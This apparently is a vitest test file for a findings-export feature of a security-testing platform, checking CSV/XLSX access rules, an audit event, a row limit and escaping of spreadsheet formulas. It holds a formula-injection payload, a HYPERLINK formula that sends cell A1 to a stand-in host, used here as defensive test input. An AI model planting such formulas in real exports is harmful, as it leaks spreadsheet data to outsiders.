import { assemble, type Cast, findingDraft, inTesting, recordedExchange } from '@zhongheng/testing/scenes/crowd-test.ts'
import { type Stage, openStage } from '@zhongheng/testing/scenes/stage.ts'
import type { Person } from '@zhongheng/tools/demo/person.ts'
import { strFromU8, unzipSync } from 'fflate'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

let stage: Stage
let cast: Cast
let engagementId: string
beforeAll(async () => {
  stage = await openStage()
  cast = await assemble(stage, 'a')
  engagementId = await inTesting(stage, cast)
  const cite = await recordedExchange(stage, engagementId, cast.tester)
  await cast.tester.call('POST /api/engagements/:engagementId/findings', {
    params: { engagementId },
    body: { ...findingDraft(stage, [cite]), title: '=HYPERLINK("https://canary.invalid/")' },
  })
})
afterAll(() => stage.close())

const csvFor = async (person: Person): Promise<string> =>
  (await person.fetch('GET /api/engagements/:engagementId/findings.csv', { params: { engagementId } })).text()

describe('the list of findings as a table', () => {
  it('PUB-AC-12: has a line for each finding that its reader may know of, and nothing that is sealed', async () => {
    for (const person of [cast.organizer, cast.auditor, cast.tester]) {
      const lines = (await csvFor(person)).trimEnd().split('\r\n')
      expect(lines).toHaveLength(2)
      expect(lines[1]).toMatch(/-F001"/)
      expect(lines.join()).not.toContain('canary')
    }
    // What passed no review yet is not the demand side's to know.
    expect((await csvFor(cast.demand)).trimEnd().split('\r\n')).toHaveLength(1)
  })
  it('PUB-IN-03: has a name that looks like a formula as text, in both forms', async () => {
    const name = '=HYPERLINK("https://canary.invalid/?"&A1)'
    await stage.deps.database.kysely
      .updateTable('persons')
      .set({ name })
      .where('id', '=', (await cast.tester.call('GET /api/me', {})).personId)
      .execute()
    expect(await csvFor(cast.organizer)).toContain(`"'${name.replaceAll('"', '""')}"`)
    const bytes = await cast.organizer.file('GET /api/engagements/:engagementId/findings.xlsx', {
      params: { engagementId },
    })
    const sheet = strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
    expect(sheet).toContain('<t xml:space="preserve">=HYPERLINK("https://canary.invalid/?"&amp;A1)</t>')
    expect(sheet).not.toContain('<f>')
  })
  it('is an event with form and number', async () => {
    const event = await stage.deps.database.kysely
      .selectFrom('events')
      .select('leaf')
      .where('kind', '=', 'findings.exported')
      .orderBy('seq', 'desc')
      .executeTakeFirstOrThrow()
    expect(JSON.parse(event.leaf)).toMatchObject({ facts: { format: 'xlsx', findings: 1 } })
  })
  it('has ten thousand lines at most', async () => {
    await sql`insert into findings
      select more.* from findings f, generate_series(2, 10001) as n, jsonb_populate_record(f,
        jsonb_build_object('id', 'fnd_' || lpad(n::text, 26, '0'), 'number', 'N' || n)) as more
      where f.engagement_id = ${engagementId}`.execute(stage.deps.database.kysely)
    const refused = await cast.organizer.fetch('GET /api/engagements/:engagementId/findings.csv', {
      params: { engagementId },
    })
    expect([refused.status, ((await refused.json()) as { rule?: string }).rule]).toEqual([422, 'EXPORT-1'])
  })
})
